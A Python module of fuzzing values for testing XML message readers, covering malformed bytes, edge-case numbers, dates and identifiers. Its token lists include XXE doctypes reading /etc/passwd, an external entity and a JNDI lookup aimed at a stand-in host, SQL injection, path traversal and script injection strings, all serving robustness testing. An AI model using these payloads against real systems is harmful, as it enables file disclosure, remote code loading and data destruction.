"""What is put in the place of what was there: values that often break readers, and values that may well be valid."""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from datetime import date, timedelta
from random import Random

TOKENS: tuple[bytes, ...] = (
    b"\0",
    b"\x01",
    b"\x1b[2J",
    b"\x7f",
    b"\x80",
    b"\xc0\x80",
    b"\xed\xa0\x80\xed\xb0\x80",
    b"\xef\xbf\xbe",
    b"\xef\xbb\xbf",
    b"\xfe\xff",
    b"\xff\xfe\0\0",
    b"\xf4\x90\x80\x80",
    b"\xe2\x80\xae",
    b"&#0;",
    b"&#xD800;",
    b"&#x110000;",
    b"&#xFFFE;",
    b"&#10;",
    b"&amp;amp;",
    b"&lt;",
    b"&unknown;",
    b"&",
    b"<",
    b">",
    b"</",
    b"/>",
    b'"',
    b"'",
    b"]]>",
    b"<![CDATA[",
    b"<![CDATA[]]>",
    b"<!--",
    b"-->",
    b"<!-- -- -->",
    b"<!---->",
    b"<?php echo 1 ?>",
    b"<?xml version='1.0'?>",
    b"<?xml version='1.1'?>",
    b"<?xml version='1.0' encoding='utf-16'?>",
    b"<?xml version='1.0' encoding='ebcdic-cp-be'?>",
    b"<?xml version='1.0' encoding='nonsense'?>",
    b"<!DOCTYPE a>",
    b"<!DOCTYPE a [<!ENTITY b 'c'>]>",
    b"<!DOCTYPE a SYSTEM 'file:///etc/passwd'>",
    b"<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://192.0.2.1/x'>%p;]>",
    b"<a/>",
    b"<a>",
    b"</a>",
    b"<a:b/>",
    b"<a xmlns=''/>",
    b" xmlns=''",
    b" xmlns:a=''",
    b" xmlns:xml='urn:x'",
    b" a='1' a='2'",
    b" a:a='1'",
    b" xml:space='preserve'",
    b"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>",
    b"0" * 400,
    b"9" * 5000,
    b"A" * 70000,
    b" " * 3000,
    b"<a>" * 300,
    b"%s%n%x",
    b"\r\n",
    b"\n\n\n",
    b"\t",
)
"""Bytes that mean something to XML, or to those who read it badly."""

TEXTS: tuple[str, ...] = (
    "",
    " ",
    "\n",
    "\t\n ",
    "0",
    "-0",
    "-1",
    "+1",
    "00000000000",
    "99999999999",
    "9" * 19,
    str(2**31),
    str(2**63),
    "9" * 310,
    "9" * 5000,
    "1e400",
    "1.5",
    "1,5",
    "1_000",
    "0x10",
    "NaN",
    "INF",
    "true",
    "TRUE",
    "2",
    "null",
    "None",
    "A" * 255,
    "A" * 256,
    "A" * 257,
    "A" * 70000,
    "é" * 300,
    "٠١٢٣٤٥٦٧٨٩٠",
    "９１６６２３９０１０６",
    "𝟗𝟏𝟔𝟔𝟐𝟑𝟗𝟎𝟏𝟎𝟔",
    "²³¹",
    "Ⅷ",
    "½",
    "\xa0",
    "\u2028",
    "\u202e91662390106",
    "\u200b",
    "\ufeff",
    "\x85",
    "e\u0301",
    "\u0301" * 50,
    "İıſßŉǰΐ",
    "ﬃ",
    "Ωω",
    "名前",
    "👩‍👩‍👧‍👦",
    "\U0010fffd",
    "'; DROP TABLE journal_entry; --",
    "' OR '1'='1",
    "%s%s%n",
    "{0}{x}",
    "{{7*7}}",
    "${jndi:ldap://192.0.2.1/a}",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "]]>",
    "&amp;",
    "&lt;a&gt;",
    "=1+1",
    "[a](b)",
    "a\nb: c",
    "a" + " b" * 400,
    "http://192.0.2.1/x",
    "urn:x",
    "x:y",
    ":",
    "#body",
)
"""Text that an element or an attribute can hold."""

DAYS: tuple[str, ...] = (
    "0000-01-01",
    "0001-01-01",
    "0001-01-01Z",
    "-0001-01-01",
    "1582-10-10",
    "1752-01-01",
    "1899-12-31",
    "1900-02-28",
    "1900-02-29",
    "1999-12-31",
    "2000-02-29",
    "2023-02-29",
    "2024-02-29",
    "2026-00-00",
    "2026-11-00",
    "2026-13-01",
    "2026-11-31",
    "2026-11-20",
    "2026-11-21",
    "2026-11-22",
    "2026-11-21Z",
    "2026-11-21+14:00",
    "2026-11-21-14:00",
    "2026-11-21+99:00",
    "2026-11-21T11:00:00",
    "2026-11-21T24:00:00Z",
    "20261121",
    "21/11/2026",
    "2999-12-31",
    "9999-12-31",
    "9999-12-31-14:00",
    "10000-01-01",
    "99999-12-31",
)
"""Days at the edges of calendars, of types, and of what is meant."""

_QUARTERS = ("0000Q1", "0001Q1", "1899Q4", "2003Q1", "2024Q5", "2026Q0", "2026Q3", "2026Q4", "2027Q1", "9999Q4")
_MONTHS = ("0000-01", "0001-01", "2026-00", "2026-11", "2026-12", "2026-13", "9999-12", "10000-01")
_MOMENTS = (
    "2026-11-21T11:00:00Z",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59.9999999-14:00",
    "2026-11-21T25:00Z",
)
_SSIN, _DAY = re.compile(r"[0-9]{11}"), re.compile(r"[0-9]{4}-[0-9]{2}-[0-9]{2}")
_NUMBER = re.compile(r"-?[0-9]{1,18}")
_FLAGS = {"true": "false", "false": "true", "1": "0", "0": "1"}


@dataclass(frozen=True, slots=True)
class Plausible:
    """Values that may well be valid where another of their kind stood.

    Attributes:
        persons: numbers of persons, known and unknown.
        institutions: the names by which institutions are known: CBE numbers and codes of their own.
        said: what the recorded messages say in elements of each local name.
    """

    persons: Sequence[str]
    institutions: Sequence[str]
    said: Mapping[str, Sequence[str]]

    def instead_of(self, text: str, name: str, dice: Random) -> str:
        """Another value of the kind of ``text``, for an element of this local name."""
        text = text.strip()
        if _SSIN.fullmatch(text) and dice.random() < 0.8:
            return dice.choice(self.persons)
        if text in self.institutions and dice.random() < 0.5:
            return dice.choice(self.institutions)
        if dice.random() < 0.3 and (known := self.said.get(name)):
            return dice.choice(known)
        return _of_its_kind(text, dice)


def _of_its_kind(text: str, dice: Random) -> str:
    if _DAY.fullmatch(text):
        return _near(text, dice) if dice.random() < 0.6 else dice.choice(DAYS)
    for pattern, values in ((r"\d{4}Q\d", _QUARTERS), (r"\d{4}-\d{2}", _MONTHS), (r"\d{4}-\d{2}-\d{2}T.*", _MOMENTS)):
        if re.fullmatch(pattern, text):
            return dice.choice(values)
    if text in _FLAGS and dice.random() < 0.7:
        return _FLAGS[text]
    if _NUMBER.fullmatch(text):
        number = str(dice.choice((0, 1, int(text) + 1, int(text) - 1, int(text) * 2, dice.randrange(100))))
        return number.zfill(len(text)) if dice.random() < 0.7 else number
    return dice.choice((text.upper(), text.lower(), text[: len(text) // 2], text + text, text[::-1], f" {text} "))


def _near(text: str, dice: Random) -> str:
    days = dice.choice((1, -1, 30, -30, 365, -365, dice.randrange(-20_000, 20_000)))
    try:
        return (date.fromisoformat(text) + timedelta(days)).isoformat()
    except (ValueError, OverflowError):
        return dice.choice(DAYS)
